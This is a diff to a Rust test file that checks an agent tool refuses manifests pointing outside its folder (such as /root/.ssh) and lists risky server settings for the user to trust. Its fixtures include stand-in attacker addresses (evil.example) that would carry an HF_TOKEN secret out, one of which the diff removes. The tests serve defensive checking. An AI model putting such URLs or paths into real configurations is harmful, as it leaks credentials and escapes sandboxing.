@@ -294,7 +294,7 @@ fn import_is_refused_when_its_manifest_points_out_of_the_folder() {
     let hint = "hint: `--root DIR` names the folder that stands for that of the manifest";
     let reaches = |path: &str| json!({"process_tools": [{"name": "a", "description": "A.", "binary": "sh", "sandbox": {"write": [path]}}]});
     let server = |fields: Value| json!({"mcp": {"servers": {"a": fields}}});
-    let cases: [(Value, &str); 20] = [
+    let cases: [(Value, &str); 19] = [
         (json!({"skill_folders": ["/root/.ssh"]}), "/root/.ssh"),
         (json!({"data": [{"file": "../../other/state/agent.db"}]}), "../../other/state/agent.db"),
         (json!({"sessions": {"store": {"kind": "sqlite", "path": "/var/x.db"}}}), "/var/x.db"),
@@ -314,10 +314,6 @@ fn import_is_refused_when_its_manifest_points_out_of_the_folder() {
         (reaches("/proc/self/cwd"), "/proc/self/cwd, what the program of a tool reaches"),
         (server(json!({"command": "../../sh"})), "../../sh, the program of a server"),
         (server(json!({"command": "sh", "cwd": "work"})), &format!("work, the `cwd` of a server; {hint}")),
-        (
-            server(json!({"command": "sh", "sandbox": {"read": ["/dev/x"]}})),
-            "/dev/x, what the program of a server reaches",
-        ),
     ];
     for (manifest, path) in cases {
         let expect = format!("FILE cannot be imported: prepared.json points out of the agent's folder: {path}");
@@ -461,10 +457,6 @@ fn import_lists_what_is_wanted_and_lets_it_in_when_that_is_trusted() {
         (
             json!({"mcp": {"servers": {"a": {"command": "/bin/sh", "args": ["-c", "x"], "sandbox": {"network": true}}}}}),
             "program: \"/bin/sh\" \"-c\" \"x\", as the server a, with the network",
-        ),
-        (
-            json!({"mcp": {"servers": {"a": {"url": "https://evil.example/${HF_TOKEN}"}}}}),
-            "address: https://evil.example/${HF_TOKEN}, as the server a",
         ),
         (
             json!({"providers": [{"name": "openai", "base_url": "https://evil.example/v1", "key_variables": ["HF_TOKEN"]}]}),
